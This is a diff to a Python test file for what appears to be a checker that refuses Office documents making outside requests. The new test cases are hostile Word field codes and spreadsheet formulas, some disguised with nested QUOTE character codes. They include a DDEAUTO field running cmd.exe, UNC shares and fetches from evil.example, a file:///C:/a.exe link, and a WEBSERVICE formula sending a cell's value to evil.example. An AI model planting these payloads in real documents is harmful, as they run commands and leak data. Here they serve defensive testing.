@@ -492,12 +492,22 @@ def workbook(formula):
     )
 
 
-def field_runs(*pieces):
-    """A complex field whose instruction is split across runs."""
-    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
+def field_runs(*pieces, result="1"):
+    """A complex field whose instruction is split across runs; a piece (or the result) that is a tuple is a field
+    nested there, made of its own pieces."""
+
+    def runs(pieces):
+        return "".join(
+            field_runs(*piece)[5:-6]
+            if isinstance(piece, tuple)
+            else f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
+            for piece in pieces
+        )
+
+    shown = field_runs(*result)[5:-6] if isinstance(result, tuple) else f"<w:r><w:t>{result}</w:t></w:r>"
     return (
-        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
-        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
+        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs(pieces)}'
+        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{shown}'
         '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
     )
 
@@ -559,6 +569,27 @@ OUTSIDE = [
     ),
     ("nhap.docx", word(field_runs(" IMP", 'ORT "http://evil.example/a.wmf" ')), FETCH_REFUSED),
     ("lien-ket-may-khac.docx", word(field_runs(' HYPERLINK "\\\\\\\\evil.example\\\\share" ')), FETCH_REFUSED),
+    # a keyword or an address spelt by a nested field (QUOTE of character codes), a share written without quotes
+    # or as the document's own place (\l) (probe 22)
+    ("dde-long.docx", word(field_runs((" QUOTE 68 68 69 65 85 84 79 ",), ' cmd.exe "/k calc" ')), FETCH_REFUSED),
+    (
+        "anh-long.docx",
+        word(field_runs((" QUOTE 73 78 67 76 85 68 69 ",), ' "http://evil.example/a.png" ')),
+        FETCH_REFUSED,
+    ),
+    ("ma-ky-tu.docx", word(field_runs(" QUOTE 92 92 101 118 105 108 ")), FETCH_REFUSED),
+    (
+        "lien-ket-long.docx",
+        word(field_runs(' HYPERLINK "', (" PAGE ",), '"')),
+        FETCH_REFUSED,
+    ),
+    ("lien-ket-tran.docx", word(field_runs(" HYPERLINK \\\\evil.example\\share ")), FETCH_REFUSED),
+    ("lien-ket-l.docx", word(field_runs(' HYPERLINK \\l "\\\\\\\\evil.example\\\\share" ')), FETCH_REFUSED),
+    (
+        "lien-ket-tep.docx",
+        word(field_runs(' HYPERLINK "https://binhson.gov.vn" \\o "x" "file:///C:/a.exe" ')),
+        FETCH_REFUSED,
+    ),
     # formulas that send cells to a server or fetch from one when the sheet calculates, in a cell or a defined name
     ("gui-so-lieu.xlsx", workbook('_xlfn.WEBSERVICE("http://evil.example/?"&amp;B1)'), FETCH_REFUSED),
     ("anh-web.xlsx", workbook('_xlfn.IMAGE("http://evil.example/a.png")'), FETCH_REFUSED),
@@ -667,6 +698,19 @@ def with_hyperlinks(content):
         ("chuoi.xlsx", workbook("CONCATENATE(\"a|b\",'Thu|Chi'!A1)")),
         # a web hyperlink field or formula, and a sheet named like a function
         ("truong-lien-ket.docx", word(field_runs(' HYPERLINK "https://binhson.gov.vn/ke-hoach" '))),
+        # a table of contents (links to the document's own headings, page numbers in their results), a tooltip,
+        # fields nested after their keyword
+        (
+            "muc-luc.docx",
+            word(
+                field_runs(' HYPERLINK \\l "_Toc123" ', result=(" PAGEREF _Toc123 \\h ",))
+                + field_runs(' HYPERLINK "mailto:vanphong@binhson.gov.vn" \\o "Gửi thư" ')
+            ),
+        ),
+        (
+            "long-nhau.docx",
+            word(field_runs(" IF ", (" PAGE ",), ' = 1 "Một" "Khác" ')),
+        ),
         ("lien-ket-web.xlsx", workbook('HYPERLINK("https://binhson.gov.vn","Trang")+SUM(IMAGE!A1:A3)')),
     ],
 )
